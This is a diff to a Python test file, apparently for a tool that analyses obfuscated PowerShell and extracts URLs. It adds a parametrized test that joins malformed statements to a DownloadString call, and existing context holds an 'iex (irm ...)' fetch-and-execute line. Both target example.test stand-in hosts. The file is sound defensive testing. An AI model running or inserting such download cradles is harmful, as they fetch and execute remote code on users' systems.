@@ -159,3 +159,11 @@ def test_a_statement_nobody_can_read_is_taken_apart_once():
     out = run("1..50 | % { foo ]) ( iex (irm http://a.example.test/) ) }}")
     assert len(out.facts("eval.bad_statement")) == 2
     assert out.urls == ["http://a.example.test/"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["$a==New-Object x", "$a,=5", "[Math]::('Abs','Max')(1)", "[Math]::('PI','E')", "'a'[--1]", "++5", "--'x'", "[Math]::('PI','E')=3"],
+)
+def test_what_makes_no_sense_hides_nothing_behind_it(text):
+    assert run(text + "\n(New-Object Net.WebClient).DownloadString('http://z.example.test/')").urls == ["http://z.example.test/"]
